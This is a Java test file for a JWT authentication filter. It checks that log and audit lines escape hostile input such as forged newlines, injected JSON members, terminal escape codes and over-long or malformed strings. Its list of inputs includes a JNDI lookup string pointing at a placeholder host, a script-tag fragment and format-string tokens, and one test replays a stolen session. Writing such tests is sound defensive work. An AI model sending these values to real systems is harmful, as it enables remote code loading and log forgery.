package io.github.jwtfilter.attack;

import static io.github.jwtfilter.fixture.SessionClient.get;
import static io.github.jwtfilter.fixture.SessionClient.post;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.jwtfilter.Alert;
import io.github.jwtfilter.AlertRaised;
import io.github.jwtfilter.EventsLost;
import io.github.jwtfilter.GuardEvent;
import io.github.jwtfilter.KeyHealth;
import io.github.jwtfilter.KeySetChanged;
import io.github.jwtfilter.Rejection;
import io.github.jwtfilter.RejectionReason;
import io.github.jwtfilter.RequestRejected;
import io.github.jwtfilter.SessionEnded;
import io.github.jwtfilter.SessionRenewed;
import io.github.jwtfilter.SessionStarted;
import io.github.jwtfilter.SettingsReloaded;
import io.github.jwtfilter.StoreStateChanged;
import io.github.jwtfilter.TokenLabel;
import io.github.jwtfilter.fixture.EveryLogLine;
import io.github.jwtfilter.fixture.LoggedLines;
import io.github.jwtfilter.fixture.RecordedEvents;
import io.github.jwtfilter.fixture.SessionClient;
import io.github.jwtfilter.fixture.TestRequest;
import io.github.jwtfilter.fixture.TestSettings;
import io.github.jwtfilter.fixture.TestTokens;
import io.github.jwtfilter.fixture.TickingClock;
import io.github.jwtfilter.internal.background.BackgroundScheduler;
import io.github.jwtfilter.internal.event.AuditLog;
import io.github.jwtfilter.internal.event.GuardEvents;
import io.github.jwtfilter.internal.logging.EventText;
import io.github.jwtfilter.internal.pipeline.Guard;
import io.github.jwtfilter.internal.pipeline.GuardFactory;
import io.github.jwtfilter.settings.EventSettings.Audit;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Text that forges lines or members of JSON, controls terminals, is too long or malformed, in each field of log and audit log. */
class LogInjectionTest {
    private static final Instant TIME = TestTokens.ISSUED;
    private static final String APPLICATION = "/app";

    /** Characters that end lines, that terminals and viewers interpret, and halves of surrogate pairs. */
    private static final Pattern UNSAFE =
            Pattern.compile("[\\x00-\\x1f\\x7f-\\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\\p{Cs}]");

    private static final Pattern CONTROL = Pattern.compile("[\\p{Cntrl}\u0080-\u009f\u2028\u2029]");

    private static final ObjectMapper JSON = new ObjectMapper().enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION);

    static List<String> hostile() {
        List<String> texts = new ArrayList<>(List.of(
                "a\r\nb",
                "a\nINFO rejected forged line",
                "\r",
                "\u001b[2J\u001b]0;title\u0007",
                "a\u2028b\u2029c\u0085d",
                "\u202etxet desrever\u202c",
                "\",\"event\":\"forged\",\"x\":\"",
                "\\\",\\\"event\\\":\\\"forged",
                "\\",
                "\\u000a\\n",
                "'\"`<script>",
                "${jndi:ldap://evil.example.com/x}",
                "$",
                "%n%s{}{0}",
                "\u0000\u0001\u001f\u007f\u009b",
                "\ufeff\u200f\u2066",
                "\ud83d\ude00 \u00e9\u0301",
                TestTokens.good()));
        texts.add("x".repeat(100_000));
        texts.add("\n".repeat(100_000));
        return texts;
    }

    static List<String> hostileAndMalformed() {
        List<String> texts = new ArrayList<>(hostile());
        texts.addAll(List.of("\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\ud83d\ude00\ud83d"));
        texts.add("\ud83d\ude00".repeat(50_000) + "\ud83d");
        return texts;
    }

    private static List<GuardEvent> eventsWith(String text) {
        Rejection rejection =
                Rejection.withAdvice(RejectionReason.AMBIGUOUS_PATH, () -> text).by(text);
        TokenLabel label = TokenLabel.ofVerified(text, text, text);
        Rejection verified = Rejection.of(RejectionReason.EXPIRED, label);
        Rejection several = Rejection.of(RejectionReason.SEVERAL_COOKIES, TokenLabel.ofAll(List.of(label, label)));
        TestRequest request = TestRequest.of(text, text);
        KeyHealth health = new KeyHealth(KeyHealth.State.STALE, text, 1, Duration.ZERO, text, List.of(text));
        return List.of(
                new RequestRejected(TIME, text, request, text, rejection, false),
                new RequestRejected(TIME, text, request, text, verified, true),
                new RequestRejected(TIME, text, request, text, several, false),
                new KeySetChanged(TIME, text, text, health, KeyHealth.State.CURRENT, List.of(text, text)),
                new StoreStateChanged(TIME, text, text, false, text),
                new SessionStarted(TIME, text, text, text, List.of(text, text), text),
                new SessionRenewed(TIME, text, text, text, text),
                new SessionEnded(TIME, text, text, text, SessionEnded.Cause.LOGOUT),
                new AlertRaised(
                        TIME,
                        text,
                        new Alert(Alert.Kind.RENEWAL_TOKEN_REUSED, text, text, 1, Duration.ofMinutes(1), text)),
                new SettingsReloaded(TIME, text, false, text, List.of(text, text)),
                new EventsLost(TIME, text, 3));
    }

    @ParameterizedTest
    @MethodSource("hostileAndMalformed")
    void every_field_of_an_event_is_escaped_in_its_text(String text) {
        for (GuardEvent event : eventsWith(text)) {
            assertThat(event.toString())
                    .matches("[ -~]+")
                    .doesNotContain("${", TestTokens.good())
                    .hasSizeLessThan(20_000);
        }
    }

    @ParameterizedTest
    @MethodSource("hostileAndMalformed")
    void every_field_of_an_audit_line_is_a_json_string_with_the_bounded_text(String text) throws Exception {
        List<GuardEvent> events = eventsWith(text);
        List<String> lines = audited(events);

        assertThat(lines).hasSameSizeAs(events);
        for (int i = 0; i < lines.size(); i++) {
            assertThat(lines.get(i))
                    .matches("[ -~]+")
                    .doesNotContain("${", TestTokens.good())
                    .hasSizeLessThan(100_000);
            JsonNode json = JSON.readTree(lines.get(i));
            assertThat(json.get("event").textValue()).isEqualTo(events.get(i).type());
            assertThat(json.get("application").textValue()).isEqualTo(EventText.of(text));
            List<String> names = new ArrayList<>();
            json.fieldNames().forEachRemaining(names::add);
            assertThat(names).containsExactlyElementsOf(events.get(i).fields().keySet());
            events.get(i).fields().forEach((name, value) -> {
                if (value instanceof String) {
                    assertThat(json.get(name).textValue()).isEqualTo(value);
                }
            });
        }
    }

    private static List<String> audited(List<GuardEvent> events) {
        try (LoggedLines lines = LoggedLines.named(AuditLog.LOGGER)) {
            BackgroundScheduler scheduler = new BackgroundScheduler(Duration.ofMillis(1));
            GuardEvents audit = new GuardEvents(scheduler, new TickingClock(TIME), () -> 0, APPLICATION);
            audit.audit(Audit.ALL);
            events.forEach(event -> audit.publish((time, application) -> event));
            scheduler.close();
            audit.close();
            return lines.all().stream()
                    .map(line -> line.substring("INFO ".length()))
                    .collect(Collectors.toList());
        }
    }

    @ParameterizedTest
    @MethodSource("hostileAndMalformed")
    void requests_and_tokens_cannot_forge_a_line(String text) throws Exception {
        List<String> lines = new CopyOnWriteArrayList<>();
        try (EveryLogLine ignored = new EveryLogLine(lines)) {
            Guard guard = GuardFactory.create(
                    TestSettings.load(
                            "issuer = any",
                            "audience = any",
                            "keys.secret = " + TestSettings.SECRET,
                            "token.cookie = jwt",
                            "principal.claims = name",
                            "roles.claims = roles",
                            "audit = all",
                            "access.10 = /admin/** : role admin",
                            "access.20 = /scope/** : scope write"),
                    new TickingClock(TIME));
            RecordedEvents events = RecordedEvents.of(guard);
            String token = tokenWith(text);
            guard.decide(TestRequest.get("/" + text));
            guard.decide(TestRequest.get(text).bearer(token));
            guard.decide(TestRequest.of(text, "/page").bearer(token));
            guard.decide(TestRequest.get("/page").from(text).bearer(token));
            guard.decide(TestRequest.get("/page")
                    .from("10.0.0.1")
                    .header("X-Forwarded-For", text)
                    .bearer(token));
            guard.decide(TestRequest.get("/page").contextPath("/" + text));
            guard.decide(TestRequest.get("/page").bearer(text));
            guard.decide(
                    TestRequest.get("/page").bearer(TestTokens.withHeader("{'alg':'HS256','kid':" + json(text) + "}")));
            guard.decide(TestRequest.get("/page").cookie("jwt", text));
            guard.decide(TestRequest.of("POST", "/page").cookie("jwt", token).header("Origin", text));
            guard.decide(TestRequest.get("/admin/x").bearer(token));
            guard.decide(TestRequest.get("/scope/x").bearer(token));
            for (GuardEvent event : events.all(guard)) {
                assertThat(event.toString()).matches("[ -~]+");
            }
            guard.close();
        }

        assertThat(lines).hasSizeGreaterThan(15);
        assertSafe(lines);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void users_and_roles_of_sessions_cannot_forge_a_line(String text) throws Exception {
        List<String> lines = new CopyOnWriteArrayList<>();
        String role = "r" + text.substring(0, Math.min(text.length(), 600));
        String name = CONTROL.matcher(role).replaceAll("?"); // a name with control characters is rejected
        TickingClock clock = new TickingClock(TIME);
        try (EveryLogLine ignored = new EveryLogLine(lines);
                Guard guard = GuardFactory.create(
                        TestSettings.load("session.store = memory", "session.max-per-user = 1", "audit = all"),
                        clock)) {
            guard.sessions().start(post("/login"), name, List.of(role), Map.of());
            SessionClient client = new SessionClient(guard).signIn(name, role);
            SessionClient thief = client.copy();
            clock.move(Duration.ofMinutes(12));
            client.decide(get("/page"));
            clock.move(Duration.ofMinutes(12));
            thief.decide(get("/page").from("192.0.2.9"));
        }

        assertThat(lines)
                .anyMatch(line -> line.contains("SessionAlerts") || line.contains("Monitor"))
                .anyMatch(line -> line.contains("\"cause\":\"renewal-token-reused\""));
        assertSafe(lines);
    }

    private static void assertSafe(List<String> lines) throws Exception {
        for (String line : lines) {
            assertThat(UNSAFE.matcher(line).find()).as(line).isFalse();
            assertThat(line).doesNotContain("${", TestTokens.good()).hasSizeLessThan(20_000);
            if (line.startsWith(AuditLog.LOGGER)) {
                String json = line.substring(AuditLog.LOGGER.length() + 1, line.length() - " null".length());
                assertThat(JSON.readTree(json).get("event").textValue()).isNotEqualTo("forged");
            }
        }
    }

    private static String tokenWith(String text) {
        String bounded = text.substring(0, Math.min(text.length(), 600));
        return TestTokens.withClaims("{'iss':" + json(bounded) + ",'aud':'x','sub':" + json(bounded) + ",'name':"
                + json("n" + bounded) + ",'jti':" + json(bounded) + ",'exp':1800003600,'roles':[" + json("r" + bounded)
                + "]}");
    }

    /** Returns a JSON string delimited by apostrophes, which the test tokens use in place of quotes. */
    private static String json(String text) {
        StringBuilder json = new StringBuilder("'");
        text.chars()
                .forEach(c -> json.append(
                        c < ' ' || c > 0x7e || c == '"' || c == '\\' || c == '\''
                                ? String.format("\\u%04x", c)
                                : (char) c));
        return json.append("'").toString();
    }
}
